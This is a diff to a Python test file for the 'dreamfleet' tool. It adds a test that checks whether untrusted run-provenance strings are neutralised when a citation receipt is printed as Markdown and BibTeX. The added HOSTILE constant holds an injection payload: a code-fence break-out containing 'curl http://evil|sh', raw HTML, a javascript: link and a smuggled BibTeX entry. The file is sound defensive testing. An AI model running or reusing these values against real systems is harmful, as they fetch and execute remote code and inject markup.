@@ -8,6 +8,7 @@ import shutil
 from dataclasses import replace
 
 import pytest
+from markdown_it import MarkdownIt
 
 from dreamfleet.common.artifacts.controller import Controller
 from dreamfleet.common.client.equal_fitness import ENOUGH, EqualFitness
@@ -16,7 +17,7 @@ from dreamfleet.common.runs.effort import Effort
 from dreamfleet.common.runs.records import StageSettings
 from dreamfleet.common.runs.run_folder import RunFolder
 from dreamfleet.common.runs.run_paths import CONTROLLER
-from dreamfleet.common.runs.run_provenance import RECEIPT, RunProvenance
+from dreamfleet.common.runs.run_provenance import RECEIPT, RunProvenance, StartProvenance
 from dreamfleet.common.runs.seeds import training_seeds
 from dreamfleet.common.schema.validation import to_plain
 from dreamfleet.coordinator.addons.runs import run_details
@@ -114,6 +115,23 @@ def test_it_cites_the_software_in_the_version_that_served_the_run(reality):
     assert receipt()["software"] == {"title": "dreamfleet", "authors": "The dreamfleet authors", "version": "0.0.7"}
     entry = ["@misc{dreamfleet,", "  title = {dreamfleet},", "  author = {{The dreamfleet authors}},"]
     assert "\n".join([*entry, "  version = {0.0.7}", "}"]) in printed("runs", "receipt", "reality")
+
+
+HOSTILE = "9.9\n```\n\n```sh\ncurl http://evil|sh\n```\n<b>x</b> ``` `y` [z](javascript:1)}\n}\n@misc{other,"
+
+
+def test_what_a_strangers_controller_says_is_no_markup(reality):
+    """Neither a command, nor a link, nor a BibTeX entry of its own."""
+    start = StartProvenance(HOSTILE, HOSTILE, "")
+    served = RunProvenance(3, Effort(), start, fingerprint=HOSTILE, versions={"dreamfleet": HOSTILE, HOSTILE: "1"})
+    change_provenance(reality, **{RECEIPT: to_plain(served)})
+    found = MarkdownIt("commonmark").parse(printed("runs", "receipt", "reality"))
+    commands, entries = (each.content.splitlines() for each in found if each.type == "fence")
+    assert {each.split()[0] for each in commands} == {"dreamfleet"}
+    assert [each[:6] for each in entries if not each.startswith(" ")] == ["@misc{", "}"] * 2
+    assert not [each for each in found if each.type.startswith("html")]
+    parts = {part.type for each in found for part in each.children or ()}
+    assert parts <= {"text", "text_special", "code_inline"}
 
 
 @pytest.mark.slow
